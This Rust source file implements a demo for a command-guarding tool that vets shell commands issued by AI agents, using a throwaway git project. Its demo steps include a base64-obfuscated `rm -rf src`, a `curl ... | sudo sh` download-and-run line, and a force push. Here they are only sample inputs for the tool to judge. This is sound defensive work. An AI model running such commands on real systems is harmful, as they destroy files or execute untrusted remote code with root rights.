//! `guard demo`: shows the main job on real commands, in a temporary project with a record of its own. On a terminal it
//! waits for Enter at each step, and shows a split screen: an agent that asks, and the person who answers
//! (`split_screen`).
//!
//! Every command runs through this binary, as a person would type it. None of them can do harm: the deleted files were
//! created here, and the refused command is a script that prints a line.

mod split_screen;

use std::ffi::{OsStr, OsString};
use std::fs;
use std::io::{self, IsTerminal as _, Write};
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use clap::Args;

use super::record_backend::DIRECTORY;
use super::scratch::Scratch;
use super::{exit, screen};
use crate::exec::tool::Tool;
use crate::judge::invocation::quote;
use crate::prompt::line;
use crate::world::identity::Account;

/// A project rule, so that one command is refused outright.
const RULES: &str = r#"family = "demo"
about = "Rules of this scratch project."

[[rule]]
id = "demo.deploy"
tier = 3
deny = true
reversibility = "hard"
reason = "The project is deployed by its pipeline, never by hand."
instead = "git push"
program = "deploy"
bad = ["./deploy"]
good = ["ls deploy"]
"#;

/// The arguments of `guard demo`.
#[derive(Debug, Args)]
pub struct DemoArgs {
    /// Show all steps at once without waiting for Enter, as through a pipe
    #[arg(long)]
    auto: bool,
    /// One step, in the scratch project of the demo
    #[arg(long, hide = true, conflicts_with = "auto")]
    step: Option<usize>,
    /// All of it in two halves of the window, in the scratch project of the demo
    #[arg(long, hide = true, conflicts_with_all = ["auto", "step"])]
    inside: bool,
}

/// Variables that could lead to files of the account.
const FOREIGN: [&str; 4] = ["XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"];

/// Part of the name of the temporary directory.
const PURPOSE: &str = "demo";

/// The reason why a step of the demo does not run.
#[derive(Debug, thiserror::Error)]
pub enum StepError {
    #[error("the demo has no such step")]
    NoSuchStep,
    #[error("--step is for internal use by guard demo")]
    NoProject,
    #[error(transparent)]
    Directory(#[from] io::Error),
}

/// Prepares this process for one step in the temporary project, so that it does not use any files of the account.
/// Returns the arguments of guard, or `None` for the whole demo.
///
/// # Errors
/// The working directory is not such a project, or there is no such step.
pub fn enter(args: &DemoArgs) -> Result<Option<Vec<OsString>>, StepError> {
    if args.step.is_none() && !args.inside {
        return Ok(None);
    }
    let words = match args.step {
        None => &[][..],
        Some(step) => {
            let whole = STEPS.get(step).map(|step| step.arguments);
            let halves =
                step.checked_sub(split_screen::FROM).and_then(|step| split_screen::COMMANDS.get(step).copied());
            whole.or(halves).ok_or(StepError::NoSuchStep)?
        }
    };
    let project = std::env::current_dir()?;
    let root = project.parent().filter(|root| is_scratch(root)).ok_or(StepError::NoProject)?.to_owned();
    Account::live_in(root.join(HOME));
    // Use a separate record even if a service keeps the machine's.
    let _ = DIRECTORY.set(root.join("data"));
    Ok((!args.inside).then(|| words.iter().map(OsString::from).collect()))
}

/// Reports whether the demo created a directory: only this account can enter it, and it has the right name.
fn is_scratch(root: &Path) -> bool {
    let named = root.file_name().is_some_and(|name| name.to_string_lossy().starts_with(&format!("guard-{PURPOSE}-")));
    let own = |about: fs::Metadata| {
        about.is_dir() && about.uid() == nix::unistd::getuid().as_raw() && about.mode() & 0o077 == 0
    };
    named && fs::symlink_metadata(root).is_ok_and(own)
}

/// The home directory in the temporary directory.
const HOME: &str = "home";

/// A step: its purpose, the arguments of guard, and what to notice in the output.
struct DemoStep {
    why: &'static str,
    arguments: &'static [&'static str],
    seen: &'static str,
}

const STEPS: &[DemoStep] = &[
    DemoStep { why: "Reading is safe: it runs, and guard prints nothing.", arguments: &["--", "ls"], seen: "" },
    DemoStep {
        why: "A command string runs in your shell after guard has analysed every part of it.",
        arguments: &["-c", "wc -l src/* | sort -n"],
        seen: "",
    },
    DemoStep {
        why: "build/ is ignored by git and can be created again, so this runs.",
        arguments: &["--", "rm", "-rf", "build"],
        seen: "",
    },
    DemoStep {
        why: "src/ cannot be created again, so guard asks you. No answer means no.",
        arguments: &["--", "rm", "-rf", "src"],
        seen: "The card shows what would be deleted; ? explains it. Without an approval nothing runs.",
    },
    DemoStep {
        why: "The same command, obfuscated: guard decodes it and judges the result.",
        arguments: &["-c", "sh -c \"$(echo cm0gLXJmIHNyYwo= | base64 -d)\""],
        seen: "Decoding text and running it scores higher than the hidden command itself.",
    },
    DemoStep {
        why: "A rule of the project denies this, and nobody can approve it.",
        arguments: &["--", "./deploy", "production"],
        seen: "An agent reads that line and the exit code, and uses the alternative that it names.",
    },
    DemoStep {
        why: "guard check judges a command without running it.",
        arguments: &["check", "curl -s https://example.com/x.sh | sudo sh"],
        seen: "",
    },
    DemoStep {
        why: "guard explain shows how the verdict came about.",
        arguments: &["explain", "cd src && git push --force origin main"],
        seen: "",
    },
    DemoStep { why: "Every decision is in the record.", arguments: &["log", "-n", "8"], seen: "" },
];

const NEXT: &str = "
What next:
   guard replay      what guard would have asked you in the sessions that agents had so far
   guard setup       finds your agents and shells, asks, shows each change, and tries it
   guard help start  the first minutes
";

/// Runs the demo. Returns [`exit::ALLOW`] if all steps could be shown.
///
/// # Errors
/// The temporary project could not be created, or guard could not be started again.
pub fn run(args: &DemoArgs) -> io::Result<u8> {
    if args.inside {
        return split_screen::run();
    }
    let scratch = Sandbox::new()?;
    let guided = !args.auto && io::stdin().is_terminal() && io::stdout().is_terminal();
    if guided && split_screen::is_possible() {
        return Err(split_screen::enter(scratch.root.path(), &scratch.project));
    }
    for (number, DemoStep { why, arguments, seen }) in STEPS.iter().enumerate() {
        let shown = arguments.iter().map(|word| quote(word)).collect::<Vec<_>>().join(" ");
        let mut out = io::stdout().lock();
        write!(out, "\n{}   $ guard {shown}\n", screen::fitted(&format!("{}. {why}", number + 1)))?;
        out.flush()?;
        drop(out);
        // The home and the record are temporary too. If nobody is asked, no request waits.
        let step = Tool::own()?.args(["demo", "--step", &number.to_string()]).dir(&scratch.project);
        let step = step.env("HOME", scratch.root.path().join(HOME)).env("GUARD_WAIT", "0");
        let step = step.without_env(&FOREIGN);
        let status = if guided {
            step.status()?
        } else {
            // Without a terminal on standard input and standard error, guard does not ask here.
            let output = step.stdin(Stdio::null()).stderr(Stdio::piped()).start()?;
            let output = output.wait_with_output()?;
            io::stdout().write_all(screen::fitted(&String::from_utf8_lossy(&output.stderr)).as_bytes())?;
            output.status
        };
        let mut out = io::stdout().lock();
        if let Some(code) = status.code().filter(|code| *code != 0) {
            writeln!(out, "   (exit code {code})")?;
        }
        if !seen.is_empty() {
            write!(out, "{}", screen::fitted(&format!("   {seen}")))?;
        }
        out.flush()?;
        drop(out);
        if guided && number + 1 < STEPS.len() {
            let answer = line::ask("\n", &format!("   {} of {}: Enter goes on, q ends", number + 1, STEPS.len()))?;
            if answer.trim().eq_ignore_ascii_case("q") {
                break;
            }
        }
    }
    let over = format!("\nEnd of the demo. The scratch project and its record are deleted.{NEXT}");
    io::stdout().write_all(screen::fitted(&over).as_bytes())?;
    Ok(exit::ALLOW)
}

/// Takes over a temporary directory that an earlier process of this demo created, so that this process removes it.
fn adopted(root: &Path) -> Scratch {
    Scratch::adopt(root)
}

/// The temporary project, removed when dropped.
struct Sandbox {
    root: Scratch,
    project: PathBuf,
}

impl Sandbox {
    fn new() -> io::Result<Self> {
        let root = Scratch::new(PURPOSE)?;
        let sandbox = Self { project: root.path().join("project"), root };
        fs::create_dir(sandbox.root.path().join(HOME))?;
        sandbox.fill()?;
        Ok(sandbox)
    }

    fn fill(&self) -> io::Result<()> {
        let write = |name: &str, text: &str| -> io::Result<()> {
            let path = self.project.join(name);
            path.parent().map_or(Ok(()), fs::create_dir_all)?;
            fs::write(path, text)
        };
        write("src/main.rs", "fn main() {\n    println!(\"hello\");\n}\n")?;
        write("src/lib.rs", "pub fn answer() -> u8 {\n    42\n}\n")?;
        write("build/main.o", "made from src\n")?;
        write(".gitignore", "build/\n")?;
        write(".guard/patterns/demo.toml", RULES)?;
        write("docs/plan.md", "First make it work.\n")?;
        write("deploy", "#!/bin/sh\necho 'nothing is deployed'\n")?;
        fs::set_permissions(self.project.join("deploy"), fs::Permissions::from_mode(0o755))?;
        git(&self.project, ["init", "-q", "-b", "main"])?;
        git(&self.project, ["add", "-A"])?;
        git(&self.project, ["-c", "user.name=demo", "-c", "user.email=demo@localhost", "commit", "-qm", "Start"])?;
        git(&self.project, ["branch", "-q", "old"])?;
        let remote = self.root.path().join("remote.git").display().to_string();
        git(&self.project, ["init", "-q", "--bare", "-b", "main", &remote])?;
        git(&self.project, ["remote", "add", "origin", &remote])?;
        git(&self.project, ["push", "-q", "-u", "origin", "main"])
    }
}

fn git<const N: usize>(directory: &Path, arguments: [&str; N]) -> io::Result<()> {
    let git = |git: Tool| {
        let git = git.args(arguments.map(OsStr::new)).dir(directory);
        git.env("HOME", directory.with_file_name(HOME)).without_env(&["XDG_CONFIG_HOME"]).status()
    };
    let status = Tool::named("git").and_then(git).map_err(|error| {
        io::Error::new(error.kind(), format!("cannot run git, which the scratch project needs: {error}"))
    })?;
    if status.success() { Ok(()) } else { Err(io::Error::other("git could not create the scratch project")) }
}
